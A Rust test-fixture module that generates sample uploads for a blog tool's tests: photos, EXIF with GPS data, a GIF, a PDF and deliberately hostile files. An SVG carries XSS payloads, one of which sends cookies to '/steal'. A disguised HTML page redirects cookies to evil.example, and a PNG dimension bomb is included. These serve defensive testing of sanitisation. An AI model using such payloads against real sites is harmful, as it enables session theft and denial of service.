//! Files for the blog's tests, built in code so that a test says what it publishes: photo-like
//! JPEGs and PNGs, a drawing, an EXIF block carrying a location, an animated GIF, SVGs (one
//! carrying script), an HTML page renamed as an image, a PDF and a dimension bomb. The CLI's
//! unit tests and the end-to-end suite both take them from here.

use image::codecs::gif::{GifEncoder, Repeat};
use image::codecs::jpeg::JpegEncoder;
use image::codecs::png::PngEncoder;
use image::{Delay, DynamicImage, Frame, Rgb, RgbImage, Rgba, RgbaImage};
use img_parts::ImageEXIF;
use img_parts::jpeg::Jpeg;

/// Bytes that [`exif`] puts in its EXIF block, next to a GPS latitude: a published file must
/// not contain them.
pub const GPS_MARKER: &[u8] = b"GPS 51.5007N 0.1246W";

/// A photo-like image: gradients and noise, which compress like a real photo.
pub fn photo(width: u32, height: u32) -> RgbImage {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    RgbImage::from_fn(width, height, |x, y| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        let noise = (state % 24) as u32;
        let fx = x * 200 / width.max(1);
        let fy = y * 200 / height.max(1);
        Rgb([
            (fx + noise) as u8,
            (fy + noise) as u8,
            ((fx + fy) / 2 + noise) as u8,
        ])
    })
}

/// A JPEG of [`photo`] (quality 90), with no metadata.
pub fn jpeg(width: u32, height: u32) -> Vec<u8> {
    let mut out = Vec::new();
    DynamicImage::ImageRgb8(photo(width, height))
        .write_with_encoder(JpegEncoder::new_with_quality(&mut out, 90))
        .expect("encoding a JPEG");
    out
}

/// A PNG of [`photo`].
pub fn png(width: u32, height: u32) -> Vec<u8> {
    let mut out = Vec::new();
    DynamicImage::ImageRgb8(photo(width, height))
        .write_with_encoder(PngEncoder::new(&mut out))
        .expect("encoding a PNG");
    out
}

/// A drawing: smooth shading, which `image`'s lossless WebP encoder compresses better than
/// PNG (it does worse on noise and on sharp edges).
pub fn drawing(width: u32, height: u32) -> Vec<u8> {
    let image = RgbaImage::from_fn(width, height, |x, y| {
        let (fx, fy) = (x as f32 / width as f32, y as f32 / height as f32);
        Rgba([(fx.powf(1.5) * 255.0) as u8, (fy * 255.0) as u8, 128, 255])
    });
    let mut out = Vec::new();
    DynamicImage::ImageRgba8(image)
        .write_with_encoder(PngEncoder::new(&mut out))
        .expect("encoding a PNG");
    out
}

/// A big-endian EXIF block: IFD0 with `orientation` and a pointer to a GPS IFD that holds a
/// latitude reference, then [`GPS_MARKER`], as a phone's photo carries.
pub fn exif(orientation: u16) -> Vec<u8> {
    let mut e = b"MM\x00\x2a\x00\x00\x00\x08".to_vec();
    e.extend([0, 2]);
    // Orientation.
    e.extend([0x01, 0x12, 0, 3, 0, 0, 0, 1]);
    e.extend(orientation.to_be_bytes());
    e.extend([0, 0]);
    // GPSInfo: the GPS IFD is at offset 38.
    e.extend([0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 38]);
    e.extend([0, 0, 0, 0]);
    // GPSLatitudeRef: "N".
    e.extend([0, 1, 0, 1, 0, 2, 0, 0, 0, 2]);
    e.extend(b"N\0\0\0");
    e.extend([0, 0, 0, 0]);
    e.extend(GPS_MARKER);
    e
}

/// `jpeg` with `exif` as its EXIF block.
pub fn with_exif(jpeg: Vec<u8>, exif: Vec<u8>) -> Vec<u8> {
    let mut parsed = Jpeg::from_bytes(jpeg.into()).expect("a JPEG");
    parsed.set_exif(Some(exif.into()));
    parsed.encoder().bytes().to_vec()
}

/// A JPEG of `width` × `height` pixels whose EXIF block holds a GPS latitude and
/// [`GPS_MARKER`], upright, as a phone's photo does.
pub fn jpeg_with_exif(width: u32, height: u32) -> Vec<u8> {
    with_exif(jpeg(width, height), exif(1))
}

/// An animated GIF of `width` × `height` pixels, two frames, looping.
pub fn gif(width: u32, height: u32) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let mut encoder = GifEncoder::new_with_speed(&mut out, 30);
        encoder
            .set_repeat(Repeat::Infinite)
            .expect("setting a GIF to loop");
        let frames = [Rgba([200, 40, 40, 255]), Rgba([40, 40, 200, 255])].map(|colour| {
            let image = RgbaImage::from_fn(width, height, |x, _| {
                if x < width / 2 {
                    colour
                } else {
                    Rgba([240, 240, 240, 255])
                }
            });
            Frame::from_parts(image, 0, 0, Delay::from_numer_denom_ms(400, 1))
        });
        encoder.encode_frames(frames).expect("encoding a GIF");
    }
    out
}

/// A plain SVG drawing with a label.
pub fn svg(width: u32, height: u32, label: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
         <svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{width}\" height=\"{height}\" viewBox=\"0 0 {width} {height}\">\n\
         \x20 <rect width=\"100%\" height=\"100%\" fill=\"#1d4ed8\"/>\n\
         \x20 <text x=\"8\" y=\"{}\" font-family=\"sans-serif\" fill=\"#fff\">{label}</text>\n\
         </svg>\n",
        height / 2
    )
    .into_bytes()
}

/// An SVG carrying script three ways: a `<script>` element, an `onload` attribute, and a
/// `<foreignObject>` holding HTML with its own script.
pub fn svg_with_script() -> Vec<u8> {
    b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
      <svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"100\" onload=\"fetch('/steal?c='+document.cookie)\">\n\
      \x20 <script>alert(document.domain)</script>\n\
      \x20 <rect width=\"200\" height=\"100\" fill=\"red\"/>\n\
      \x20 <foreignObject width=\"200\" height=\"100\">\n\
      \x20   <body xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"javascript:alert(1)\"></iframe><img src=\"x\" onerror=\"alert(2)\"/></body>\n\
      \x20 </foreignObject>\n\
      </svg>\n"
        .to_vec()
}

/// An HTML page with script, as if renamed `diagram.png`.
pub fn html_renamed() -> Vec<u8> {
    b"<!DOCTYPE html>\n<html><head><title>Not an image</title></head>\n\
      <body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>\n"
        .to_vec()
}

/// A valid PNG signature and header declaring 50,000 × 50,000 pixels, and no pixels: tens of
/// bytes that would take gigabytes to decode.
pub fn dimension_bomb_png() -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = b"IHDR".to_vec();
    ihdr.extend(50_000u32.to_be_bytes());
    ihdr.extend(50_000u32.to_be_bytes());
    // 8 bits per channel, RGB, deflate, no filter, no interlace.
    ihdr.extend([8, 2, 0, 0, 0]);
    png.extend(13u32.to_be_bytes());
    png.extend(&ihdr);
    png.extend(crc32fast::hash(&ihdr).to_be_bytes());
    png.extend(0u32.to_be_bytes());
    png.extend(b"IEND");
    png.extend(crc32fast::hash(b"IEND").to_be_bytes());
    png
}

/// A minimal valid one-page PDF showing `title`, with a correct cross-reference table.
pub fn pdf(title: &str) -> Vec<u8> {
    let stream = format!(
        "BT /F1 18 Tf 72 720 Td ({}) Tj ET",
        title.replace(['(', ')', '\\'], "")
    );
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>".to_owned(),
        format!("<< /Length {} >>\nstream\n{stream}\nendstream", stream.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
    ];
    let mut out = b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, object) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend(format!("{} 0 obj\n{object}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for offset in offsets {
        out.extend(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}
